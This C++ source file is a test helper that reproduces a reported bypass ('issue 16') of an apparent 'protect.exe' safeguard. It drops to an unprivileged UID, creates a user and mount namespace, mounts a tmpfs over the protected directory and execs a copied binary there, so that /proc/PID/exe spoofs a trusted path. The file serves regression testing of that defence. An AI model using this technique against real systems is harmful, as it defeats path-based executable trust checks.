// dw-claim-exe: the protect.exe bypass of issue 16, as an unprivileged user
// would do it (`unshare -Urm`, a tmpfs over the protected directory, a copy
// of the program exec'd from there). Started as root by a test; it drops to
// --uid first, so everything after is what that user may do.
//
//   dw-claim-exe --uid UID --over DIR --copy SRC --as NAME -- ARGS...
//
// Opens SRC (readable by UID) before anything is mounted, becomes UID, makes
// a user and a mount namespace of its own (UID mapped to root inside), mounts
// a tmpfs over DIR, writes the copy to DIR/NAME and execs it with ARGS. The
// host then sees a process of UID whose /proc/PID/exe reads DIR/NAME.
// Exits 77 when this kernel does not let an unprivileged user make a user
// namespace (the test then cannot run), 1 on any other failure.
#include <fcntl.h>
#include <grp.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

namespace {

[[noreturn]] void die(const std::string &what, int code = 1)
{
    std::fprintf(stderr, "dw-claim-exe: %s: %s\n", what.c_str(), std::strerror(errno));
    std::exit(code);
}

void write_file(const std::string &path, const std::string &text)
{
    const int fd = ::open(path.c_str(), O_WRONLY | O_CLOEXEC);
    if (fd < 0 || ::write(fd, text.data(), text.size()) != static_cast<ssize_t>(text.size()))
        die("write " + path);
    ::close(fd);
}

}  // namespace

int main(int argc, char **argv)
{
    std::string uid_text, over, copy, as;
    int i = 1;
    for (; i + 1 < argc && std::string(argv[i]) != "--"; i += 2) {
        const std::string key = argv[i];
        if (key == "--uid")
            uid_text = argv[i + 1];
        else if (key == "--over")
            over = argv[i + 1];
        else if (key == "--copy")
            copy = argv[i + 1];
        else if (key == "--as")
            as = argv[i + 1];
        else {
            std::fprintf(stderr, "dw-claim-exe: unknown option %s\n", key.c_str());
            return 2;
        }
    }
    if (i >= argc || std::string(argv[i]) != "--" || uid_text.empty() || over.empty() || copy.empty() || as.empty()) {
        std::fprintf(stderr, "usage: dw-claim-exe --uid UID --over DIR --copy SRC --as NAME -- ARGS...\n");
        return 2;
    }
    const auto uid = static_cast<uid_t>(std::stoul(uid_text));
    const int source = ::open(copy.c_str(), O_RDONLY | O_CLOEXEC);
    if (source < 0)
        die("open " + copy);
    if (::setgroups(0, nullptr) != 0 || ::setresgid(uid, uid, uid) != 0 || ::setresuid(uid, uid, uid) != 0)
        die("drop to uid " + uid_text);
    // Dropping root made /proc/self root's: our own again, for uid_map.
    ::prctl(PR_SET_DUMPABLE, 1, 0, 0, 0);
    if (::unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0)
        die("unshare(CLONE_NEWUSER | CLONE_NEWNS) as uid " + uid_text, errno == EPERM || errno == EINVAL || errno == ENOSPC ? 77 : 1);
    write_file("/proc/self/setgroups", "deny");
    write_file("/proc/self/uid_map", "0 " + uid_text + " 1");
    write_file("/proc/self/gid_map", "0 " + uid_text + " 1");
    if (::mount("none", "/", nullptr, MS_REC | MS_PRIVATE, nullptr) != 0)
        die("make / private");
    if (::mount("dw-claim", over.c_str(), "tmpfs", 0, "size=65536k,mode=0755") != 0)
        die("mount a tmpfs over " + over);
    const std::string target = over + "/" + as;
    const int out = ::open(target.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
    if (out < 0)
        die("create " + target);
    struct stat st {};
    if (::fstat(source, &st) != 0)
        die("fstat " + copy);
    for (off_t offset = 0; offset < st.st_size;)
        if (::sendfile(out, source, &offset, static_cast<size_t>(st.st_size - offset)) <= 0)
            die("copy " + copy + " to " + target);
    ::close(out);
    ::close(source);
    std::vector<char *> args = {const_cast<char *>(target.c_str())};
    for (++i; i < argc; ++i)
        args.push_back(argv[i]);
    args.push_back(nullptr);
    ::execv(target.c_str(), args.data());
    die("exec " + target);
}
